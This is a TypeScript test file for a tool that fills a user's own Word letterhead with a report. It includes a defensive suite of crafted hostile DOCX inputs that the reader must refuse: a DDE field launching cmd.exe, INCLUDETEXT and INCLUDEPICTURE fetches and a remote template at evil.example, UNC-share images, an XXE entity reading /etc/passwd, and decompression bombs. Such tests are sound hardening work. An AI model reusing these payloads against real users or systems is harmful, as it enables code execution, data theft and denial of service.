/* A report in a Word document of the user's own: what is kept of it, what becomes of what leads outside, and what is refused. */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { TextRun } from "docx";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { FileRefused } from "../report/file-refusal.ts";
import { refusalText } from "../report/import-words.ts";
import { LANGUAGES } from "../report/language.ts";
import { LETTERHEAD_LIMITS, readLetterhead } from "../report/letterhead.ts";
import type { ReportInput } from "../report/report-input.ts";
import { letterheadFile, withNorwegianStyles, withParts } from "./support/letterhead-file.ts";
import { officeParts, wordCells, wordHeadings } from "./support/office-files.ts";
import { comparedInto, inputFrom, ReportMaker } from "./support/report-folder.ts";

let folder: string;
let input: ReportInput;
let maker: ReportMaker;
let plain: Uint8Array;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "flyt-letterhead-"));
  maker = new ReportMaker();
  await comparedInto(join(folder, "compared"), ["places.nordvik-korttid.capacityBeds=+4"], "two-municipalities");
  input = await inputFrom(join(folder, "compared"));
  plain = await letterheadFile([]);
});
afterAll(async () => {
  maker.close();
  await rm(folder, { recursive: true, force: true });
});

const madeIn = async (file: Uint8Array, template: "paper" | "full" = "paper") =>
  (await maker.make(input, "docx", template, "nb", { letterhead: readLetterhead(file) })).content as Uint8Array;

/** Texts of the paragraphs of the body, tables apart. */
const paragraphs = (document: string) =>
  [...document.replace(/<w:tbl>.*?<\/w:tbl>/gs, "").matchAll(/<w:p[ >].*?<\/w:p>/gs)].map(([xml]) =>
    [...xml.matchAll(/<w:t[^>]*>([^<]*)/g)].map(([, text]) => text).join(""),
  );

describe("a report in a document of one's own", () => {
  test("stands where its marker stood, however Word has cut it, between what was before and after", async () => {
    const file = await letterheadFile([[new TextRun("{{rap"), new TextRun({ text: "port}}", bold: true })]]);
    const found = paragraphs(officeParts(await madeIn(file)).get("word/document.xml")!);
    expect([found[0], found.at(-1)]).toEqual(["Til utvalget", "Med hilsen"]);
    expect(found[1]).toContain("Saksgrunnlag");
    expect(found.join()).not.toContain("{{");
    const atEnd = paragraphs(officeParts(await madeIn(plain)).get("word/document.xml")!);
    expect(atEnd.slice(0, 3)).toEqual(["Til utvalget", "Med hilsen", expect.stringContaining("Saksgrunnlag")]);
  });

  test("has the same numbers, headings and pictures as one of ours", async () => {
    const [own, ours] = [await madeIn(plain), (await maker.make(input, "docx", "paper", "nb")).content as Uint8Array];
    const [document, other] = [own, ours].map((file) => officeParts(file).get("word/document.xml")!);
    expect(wordCells(document).length).toBeGreaterThan(50);
    expect(wordCells(document)).toEqual(wordCells(other));
    expect(wordHeadings(document)).toEqual(wordHeadings(other));
    expect(document.split("<w:drawing>").length).toBe(other.split("<w:drawing>").length);
  });

  test("keeps headers, footers, logo, page and styles, whatever the styles are called", async () => {
    const file = withNorwegianStyles(await letterheadFile(["{{report}}"]));
    const [before, after] = [officeParts(file), officeParts(await madeIn(file))];
    const document = after.get("word/document.xml")!;
    for (const id of ["Overskrift1", "Overskrift2"]) expect(document).toContain(`<w:pStyle w:val="${id}"/>`);
    expect(document).not.toContain('w:val="Heading');
    expect(document).toContain('<w:tblStyle w:val="Tabellrutenett"/>');
    expect(after.get("word/styles.xml")).toContain("006644");
    const sections = (text: string) => /<w:pgSz.*?<w:pgMar[^>]*>/s.exec(text)?.[0];
    expect(sections(document)).toBe(sections(before.get("word/document.xml")!));
    expect(after.get("word/footer1.xml")).toContain("Postboks 1, side ");
    const header = after.get("word/header1.xml")!;
    expect(header).toContain("<w:drawing>");
    expect(header).toContain("29. nov. 2026");
    // Tables and pictures are no wider than its lines: A4 less margins of 1700 and 1406.
    const widths = [...document.matchAll(/<w:tblW w:type="dxa" w:w="(\d+)"/g)].map(([, width]) => Number(width));
    expect(new Set(widths)).toEqual(new Set([8800]));
    const drawn = [...document.matchAll(/<wp:extent cx="(\d+)"/g)].map(([, width]) => Number(width) / 635);
    expect(Math.max(...drawn)).toBeLessThanOrEqual(8800);
  });

  test("has the title where the document has a place for it, and once", async () => {
    const found = paragraphs(
      officeParts(await madeIn(await letterheadFile(["Sak: {{tittel}}"]))).get("word/document.xml")!,
    );
    const { name } = input.runs[0].loaded.scenario;
    const title = typeof name === "string" ? name : name.nb;
    expect(found.filter((text) => text.includes(title))).toEqual([`Sak: ${title}`]);
  });

  test("has in its own text what somebody writes about markers, as it is written", async () => {
    const letterhead = readLetterhead(await letterheadFile(["{{rapport}}", "Dato: {{dato}}"]));
    const summary = "Malen fyller inn {{dato}} og {{tittel}}.";
    const { content } = await maker.make(input, "docx", "paper", "nb", { letterhead, summary });
    const found = paragraphs(officeParts(content as Uint8Array).get("word/document.xml")!);
    expect(found).toContain(summary);
    expect(found).toContain("Dato: 29. nov. 2026");
  });

  test("is the same bytes each time, and names nobody who made the document before", async () => {
    const [one, other] = [await madeIn(plain), await madeIn(plain)];
    expect(Buffer.from(one).equals(other)).toBe(true);
    expect([...officeParts(one).values()].join()).not.toContain("Kari Nordmann");
  });

  test("carries no address outside the file along, and says how many were left out", async () => {
    const linked = withParts(plain, (parts) => ({
      "word/settings.xml": parts["word/settings.xml"].replace(
        /<w:settings([^>]*)>/,
        '<w:settings$1 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId9"/>',
      ),
      "word/_rels/settings.xml.rels":
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    }));
    const letterhead = readLetterhead(linked);
    expect(letterhead.linksLeftOut).toBe(2);
    const all = [...officeParts(await madeIn(linked))].map(([name, text]) => [name, text] as const);
    const outside = all.filter(([, text]) => /TargetMode="External"|evil\.example|https?:\/\/kommunen/.test(text));
    expect(outside.map(([name]) => name)).toEqual([]);
    // What was a link is a text.
    expect(all.find(([name]) => name === "word/header1.xml")![1]).toContain("kommunen.example</w:t>");
  });
});

const RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relation = (type: string, target: string, mode = "") =>
  `<Relationship Id="rIdX" Type="${RELATION}/${type}" Target="${target}"${mode}/></Relationships>`;
const OUTSIDE = ' TargetMode="External"';
const inDocument = (xml: string, type: string, target: string, mode = OUTSIDE) =>
  withParts(plain, (parts) => ({
    "word/document.xml": parts["word/document.xml"].replace("<w:body>", `<w:body>${xml}`),
    "word/_rels/document.xml.rels": parts["word/_rels/document.xml.rels"].replace(
      "</Relationships>",
      relation(type, target, mode),
    ),
  }));
const inSettings = (xml: string) =>
  withParts(plain, (parts) => ({
    "word/settings.xml": parts["word/settings.xml"].replace("</w:settings>", `${xml}</w:settings>`),
  }));
const field = (...instructions: string[]) =>
  withParts(plain, (parts) => ({
    "word/document.xml": parts["word/document.xml"].replace(
      "<w:body>",
      `<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions
        .map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`)
        .join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    ),
  }));
const typed = (type: string) =>
  withParts(plain, (parts) => ({
    "[Content_Types].xml": parts["[Content_Types].xml"].replace(
      /application\/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml/,
      type,
    ),
  }));

const HOSTILE: readonly (readonly [string, string, () => Uint8Array | Promise<Uint8Array>])[] = [
  ["a document with macros", "active-document", () => withParts(plain, () => ({ "word/vbaProject.bin": "x" }))],
  [
    "the type of one with macros",
    "active-document",
    () => typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
  ],
  ["a file within", "active-document", () => withParts(plain, () => ({ "word/embeddings/a.xlsx": "x" }))],
  ["an imported page", "active-document", () => inDocument('<w:altChunk r:id="rIdX"/>', "aFChunk", "a.html", "")],
  [
    "a picture from elsewhere",
    "external-link",
    () =>
      inDocument(
        '<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="rIdX"/></w:drawing></w:r></w:p>',
        "image",
        "http://evil.example/p.png",
      ),
  ],
  [
    "a picture on a share",
    "external-link",
    () =>
      inDocument('<w:p><w:r><w:pict><v:imagedata r:id="rIdX"/></w:pict></w:r></w:p>', "image", "\\\\evil\\p.png", ""),
  ],
  ["a frame", "active-document", () => inDocument("", "frame", "http://evil.example/")],
  ["a program beside the text", "active-document", () => inDocument("", "webextensiontaskpanes", "t.xml", "")],
  ["letters to the addresses of a database", "active-document", () => inSettings("<w:mailMerge></w:mailMerge>")],
  [
    "a film in a page of the web",
    "active-document",
    () => inDocument("<wp15:webVideoPr/>", "image", "media/a.png", ""),
  ],
  ["a header that is no part of the texts", "bad-name", () => inDocument("", "header", "../other/header.bin", "")],
  [
    "a list of relations by another spelling",
    "external-link",
    () =>
      withParts(plain, () => ({
        "word/other.xml": '<w:hdr><v:imagedata r:id="rIdX"/></w:hdr>',
        "word/_rels/other.xml.RELS": `<Relationships>${relation("image", "http://evil.example/p.png", OUTSIDE)}`,
      })),
  ],
  [
    "ten thousand links",
    "too-many-parts",
    () =>
      withParts(plain, (parts) => ({
        "word/_rels/document.xml.rels": parts["word/_rels/document.xml.rels"].replace(
          "</Relationships>",
          `${Array.from({ length: 10_000 }, (_, at) => `<Relationship Id="l${at}" Type="${RELATION}/hyperlink" Target="http://a.example/"${OUTSIDE}/>`).join("")}</Relationships>`,
        ),
      })),
  ],
  ["a link to a share that looks like one within", "unknown-field", () => field(' HYPERLINK \\l "a" "\\\\evil\\a" ')],
  ["a program that is asked", "unknown-field", () => field(" DDE", 'AUTO c:\\\\cmd.exe "/k calc" ')],
  ["a file that is shown", "unknown-field", () => field(' INCLUDETEXT "http://evil.example/a" ')],
  ["a picture that is fetched", "unknown-field", () => field(' INCLUDEPICTURE "http://evil.example/a" ')],
  ["a field without a name", "unknown-field", () => field(" ")],
  ["a workbook", "not-a-document", async () => (await maker.make(input, "xlsx", "paper", "nb")).content as Uint8Array],
  ["a text", "not-a-document", () => new TextEncoder().encode("Kjære utvalg")],
  ["two markers", "marker-twice", () => letterheadFile(["{{rapport}}", "{{report}}"])],
  [
    "a marker in a header",
    "marker-elsewhere",
    () =>
      withParts(plain, (parts) => ({
        "word/header1.xml": parts["word/header1.xml"].replace("{{dato}}", "{{rapport}}"),
      })),
  ],
  ["a file of many megabytes", "too-large", () => new Uint8Array(LETTERHEAD_LIMITS.fileBytes + 1)],
  [
    "60 MB of blanks in a file of 60 kB",
    "unpacks-too-large",
    () => withParts(plain, () => ({ "word/fonts.xml": " ".repeat(60e6) })),
  ],
  [
    "a text without end",
    "unpacks-too-large",
    () => withParts(plain, () => ({ "word/document.xml": `<w:document>${"<w:p/>".repeat(1e6)}` })),
  ],
  [
    "an entity",
    "external-entity",
    () => withParts(plain, () => ({ "word/styles.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>' })),
  ],
];

describe("what is refused", () => {
  test.each(HOSTILE)("is %s (%s), within a second, with what to do in three languages", async (_, reason, make) => {
    const file = await make();
    // Of the processor: others may use it too.
    const start = process.cpuUsage();
    let refusal: unknown;
    try {
      readLetterhead(file);
    } catch (error) {
      refusal = error;
    }
    const { user, system } = process.cpuUsage(start);
    expect((user + system) / 1000).toBeLessThan(1000);
    expect(refusal).toBeInstanceOf(FileRefused);
    expect((refusal as FileRefused).reason).toBe(reason);
    const texts = LANGUAGES.map((language) => refusalText(refusal as FileRefused, language));
    expect(new Set(texts).size).toBe(3);
    for (const text of texts) expect(text).toMatch(/[.!]$/);
  });

  test("is not a usual document: page numbers, dates, references within, and a template of Word", () => {
    for (const instruction of [
      " PAGE ",
      " DATE \\@ dd.MM.yyyy ",
      ' HYPERLINK \\l "_Toc1" ',
      ' HYPERLINK \\l "_Toc1" \\h \\o "Til toppen"',
      " STYLEREF Overskrift 1 ",
    ]) {
      expect(() => readLetterhead(field(instruction))).not.toThrow();
    }
    const template = typed("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml");
    expect(new TextDecoder().decode(readLetterhead(template).parts.get("[Content_Types].xml"))).toContain(
      "document.main+xml",
    );
  });
});
